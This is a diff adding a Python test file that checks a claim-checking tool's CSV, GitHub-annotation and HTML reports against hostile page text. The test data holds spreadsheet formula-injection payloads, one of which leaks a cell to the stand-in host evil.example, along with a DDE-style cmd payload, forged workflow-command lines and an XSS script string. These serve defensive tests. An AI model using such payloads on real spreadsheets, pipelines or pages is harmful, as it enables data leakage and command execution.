@@ -1,0 +1,76 @@
+"""Hostile page text in the reports: a spreadsheet never runs it, a workflow command never ends early,
+and the HTML report shows it as text under a policy that runs no script of its own."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from claimcheck import check_text
+from claimcheck.registry.load import load_registry
+from claimcheck.report import claims as claims_report
+from claimcheck.report import csv as csv_report
+from claimcheck.report import github, html
+from tests.robustness.conftest import FIXTURE_REGISTRY, CliRun, shipped
+
+Cli = Callable[..., CliRun]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1, "Ketamine is completely safe.")',
+    "+cmd|' /C calc'!A0 Ketamine is completely safe.",
+    "-2+3 Ketamine is completely safe.",
+    "@SUM(1,1) Ketamine is completely safe.",
+]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_starting_like_a_formula_is_quoted(start: str) -> None:
+    assert csv_report.spreadsheet_row([f"{start}1+1", "plain", 3, "a=b"]) == [f"'{start}1+1", "plain", 3, "a=b"]
+
+
+@pytest.mark.parametrize("sentence", FORMULAS, ids=["equals", "plus", "minus", "at"])
+def test_claims_matrix_of_a_hostile_page_opens_as_text(sentence: str) -> None:
+    report = check_text(f"<p>{sentence}</p>", format="html", registry=shipped(), path="page.html")
+    assert report.findings
+    rows = list(csv.DictReader(io.StringIO(csv_report.render(report))))
+    assert rows and all(row["sentence"].startswith("'") for row in rows)
+    assert {row["sentence"][1:] for row in rows} == {f.sentence for f in report.findings}
+
+
+def test_registry_claims_matrix_quotes_formula_cells() -> None:
+    registry = load_registry(FIXTURE_REGISTRY)
+    claim = registry.claims[0].model_copy(update={"statement": "=1+1 evil", "approved_wording": ["@now"]})
+    row = next(csv.DictReader(io.StringIO(claims_report.render_csv(registry, [claim]))))
+    assert row["statement"] == "'=1+1 evil" and row["approved_wording"] == "'@now"
+
+
+def test_lint_csv_through_the_cli_quotes_formulas(cli: Cli, tmp_path: Path) -> None:
+    page = tmp_path / "page.html"
+    page.write_text(f"<p>{FORMULAS[0]}</p>")
+    run = cli("lint", "--no-config", "-j", "1", "--format", "csv", page)
+    assert run.code == 1 and "\"'=HYPERLINK(" in run.out
+
+
+def test_github_annotations_cannot_be_ended_or_forged_by_page_text() -> None:
+    hostile = "Ketamine is completely safe.%0A\n::error file=x,line=1::forged\r\nIt cures depression, 100%."
+    report = check_text(hostile, format="text", registry=shipped(), path="a,b:c.txt")
+    out = github.render(report)
+    lines = out.splitlines()
+    assert len(lines) == len(report.findings) and all(line.startswith("::") for line in lines)
+    assert "file=a%2Cb%3Ac.txt," in lines[0] and "::forged" not in out.replace("%0A::", "")
+
+
+def test_html_report_escapes_page_text_and_admits_only_its_own_script(tmp_path: Path) -> None:
+    page = tmp_path / "page.html"
+    payload = '<p>Ketamine is completely safe &lt;script&gt;alert(1)&lt;/script&gt; "onmouseover=x.</p>'
+    page.write_text(payload)
+    report = check_text(payload, format="html", registry=shipped(), path=str(page))
+    out = html.render(report)
+    assert "<script>alert(1)" not in out and "&lt;script&gt;alert(1)" in out
+    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', out)
+    assert policy is not None and "default-src 'none'" in policy.group(1)
+    assert "unsafe-inline" not in policy.group(1)
